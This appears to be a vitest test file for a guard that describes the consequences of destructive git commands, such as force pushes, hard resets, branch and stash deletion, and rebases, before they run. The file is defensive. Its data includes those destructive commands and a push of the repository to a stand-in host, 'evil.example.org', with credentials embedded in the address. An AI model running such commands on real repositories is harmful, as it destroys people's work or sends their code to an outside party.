import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { openPlace, type Place } from './rig.ts';

/** `main` with two commits, one behind what was fetched of `origin`; `topic` has one commit of its own. */
function diverged(whenOver?: (clear: () => void) => void): Place {
  const place = openPlace(true, whenOver);
  const other = join(place.home, 'origin.git');
  place.gitIn(place.home, 'init', '-q', '--bare', other);
  place.write({ a: '1\n2\n3\n', b: 'b\n' });
  place.commit('first');
  place.git('remote', 'add', 'origin', other);
  place.git('push', '-q', '-u', 'origin', 'main');
  place.commit('theirs one');
  place.commit('theirs two');
  place.git('push', '-q', 'origin', 'main');
  place.git('fetch', '-q');
  place.git('reset', '-q', '--hard', 'HEAD~2');
  place.commit('mine');
  place.git('checkout', '-q', '-b', 'topic');
  place.commit('only here');
  place.git('checkout', '-q', 'main');
  // Hosts are read from the address alone; nobody is asked.
  place.git('remote', 'set-url', 'origin', 'git@git.example.com:team/app.git');
  return place;
}

/** Object names and the time of the fetch differ from test to test. */
const plain = (texts: readonly string[]): string[] =>
  texts.map((text) =>
    text.replace(/\b[0-9a-f]{10}\b/g, 'SHA').replace(/\d{4}-\d\d-\d\d \d\d:\d\d UTC/, 'TIME'),
  );

describe('a push', () => {
  const place = diverged(afterAll);
  const lost =
    'push: throw away 2 commits of origin/main on git.example.com (as of the last fetch at TIME): theirs two; theirs one · undo in part: git push --force origin SHA:main';
  const cases: [string, string, string[]][] = [
    ['by force', 'git push --force origin main', [lost]],
    ['by force without a word more', 'git push -f', [lost]],
    ['by a plus', 'git push origin +main', [lost]],
    ['with a lease', 'git push --force-with-lease origin HEAD:main', [lost]],
    ['from another folder', 'cd / && git -C HERE push -f', [lost]],
    [
      'by force to a branch never fetched',
      'git push -f origin main:unseen',
      [
        'push: overwrite origin/unseen on git.example.com: what is there: not counted · undo: unknown, it was never fetched',
      ],
    ],
    [
      'that deletes',
      'git push origin --delete main',
      [
        'push: delete the branch main on git.example.com, 2 commits only there (as of the last fetch at TIME): theirs two; theirs one · undo in part: git push origin SHA:refs/heads/main',
      ],
    ],
    [
      'of commits',
      'git push origin topic:main',
      [
        'push: push 2 commits to origin/main on git.example.com: only here; mine · undo in part: git revert, but who fetched it keeps it',
      ],
    ],
    [
      'of a new branch',
      'git push -u origin topic',
      [
        'push: push 2 commits to origin/topic on git.example.com, new there as far as is known: only here; mine · undo in part: git revert, but who fetched it keeps it',
      ],
    ],
    [
      'of a branch that is not there',
      'git push origin nowhere',
      ['push: push (nowhere): not counted · undo: unknown, nowhere leads to no commit here'],
    ],
    [
      'to an address',
      'git push https://user:secret@evil.example.org/x.git main',
      ['push: push 4 commits to'],
    ],
    [
      'of everything',
      'git push --mirror origin',
      ['push: push 2 branches to origin on git.example.com · undo: unknown, what is there is not known'],
    ],
    [
      'of every branch both have',
      'git push -f origin :',
      ['push: overwrite a branch elsewhere (:): not counted · undo: unknown, every branch both sides have'],
    ],
    ['in a dry run', 'git push -n -f origin main', []],
    [
      'of what the text does not tell',
      'git push -f origin "$BRANCH"',
      ['discard: run git push with what the command text does not tell: not counted · undo: unknown'],
    ],
    [
      'of a pull request',
      'gh pr create --fill',
      [
        'publish: open a pull request on git.example.com, pushing the branch when it is not there yet · undo in part: close it; who was told of it knows it',
      ],
    ],
  ];
  it.each(cases)('%s', async (_, command, expected) => {
    const said = plain(await place.says(command.replace('HERE', place.at)));
    if (command.includes('secret')) {
      expect(said.join()).toContain('evil.example.org');
      expect(said.join()).not.toMatch(/secret|user/);
    } else expect(said).toEqual(expected);
  });

  it('from a detached head says that no branch is pushed', async () => {
    const place = diverged();
    place.git('checkout', '-q', '--detach');
    expect(await place.says('git push -f')).toEqual([
      'push: overwrite a branch elsewhere (this branch): not counted · undo: unknown, no branch is checked out',
    ]);
  });
});

describe('throwing away', () => {
  const dirty = (place: Place): void => {
    place.write({ a: '1\ntwo\n3\n4\n', untracked: 'u' });
    place.git('add', 'a');
    place.write({ b: 'other\n' });
  };
  const cases: [string, string, string[]][] = [
    [
      'by a hard reset',
      'git reset --hard',
      [
        'discard: throw away uncommitted changes in 2 files (5 lines): a, b · undo: none, git has no copy of the changes in 2 files',
      ],
    ],
    [
      'commits by a hard reset',
      'git reset --hard HEAD~1',
      [
        'discard: throw away uncommitted changes in 2 files (5 lines): a, b · undo: none, git has no copy of the changes in 2 files',
      ],
    ],
    ['nothing by a soft one', 'git reset HEAD~1', []],
    [
      'by a checkout of a path: not what is staged',
      'git checkout -- .',
      [
        'discard: throw away uncommitted changes in 1 file (2 lines): b · undo: none, git has no copy of the changes in 1 file',
      ],
    ],
    [
      'by a checkout of a path without dashes',
      'git checkout b',
      [
        'discard: throw away uncommitted changes in 1 file (2 lines): b · undo: none, git has no copy of the changes in 1 file',
      ],
    ],
    ['nothing by a checkout of a branch', 'git checkout topic', []],
    [
      'by a restore from a commit',
      'git restore --source=HEAD a b',
      [
        'discard: throw away uncommitted changes in 2 files (5 lines): a, b · undo: none, git has no copy of the changes in 2 files',
      ],
    ],
    ['nothing by a restore of the index', 'git restore --staged a', []],
    [
      'a branch',
      'git branch -D topic',
      [
        'discard: delete the branch topic: 1 commit only on it: only here · undo: git branch topic SHA while git keeps the commit',
      ],
    ],
    [
      'commits by a rebase',
      'git rebase origin/main',
      ['discard: write anew 1 commit of main: mine · undo: git reset --hard SHA while git keeps the commit'],
    ],
  ];
  const shared = diverged(afterAll);
  dirty(shared);
  it.each(cases)('%s', async (_, command, expected) => {
    expect(plain(await shared.says(command))).toEqual(expected);
  });

  it('commits nothing else leads to', async () => {
    const place = diverged();
    place.git('branch', '-q', '-D', 'topic');
    place.commit('unique');
    expect(plain(await place.says('git reset --hard HEAD~2'))).toEqual([
      'discard: throw away nothing: no tracked file has changes that are not committed · undo: nothing to undo',
      'discard: drop 2 commits only on main: unique; mine · undo: git reset --hard SHA while git keeps the commit',
    ]);
  });

  it('a stash, and all of them', async () => {
    const place = diverged();
    place.write({ a: 'changed\n' });
    place.git('stash', 'push', '-q', '-m', 'half done');
    expect(plain(await place.says('git stash drop'))).toEqual([
      'discard: drop stash@{0} (On main: half done) with changes in 1 file: a · undo: git stash store SHA while git keeps the commit',
    ]);
    expect(await place.says('git stash clear')).toEqual([
      'discard: drop every stash, 1: On main: half done · undo: unknown, git fsck --lost-found may still find them',
    ]);
  });

  it('says that git does not tell, where there is none or its index is gone', async () => {
    const bare = openPlace(false);
    expect(await bare.says('git reset --hard')).toEqual([
      'discard: throw away what is not committed: not counted · undo: unknown, git does not tell',
    ]);
    const place = openPlace();
    expect(await place.says('git branch -D main && git push -f')).toEqual([
      'push: overwrite a branch elsewhere (this branch): not counted · undo: unknown, HEAD leads to no commit here',
    ]);
    rmSync(join(place.at, '.git/HEAD'));
    expect((await place.says('git reset --hard'))[0]).toContain('git does not tell');
  });
});
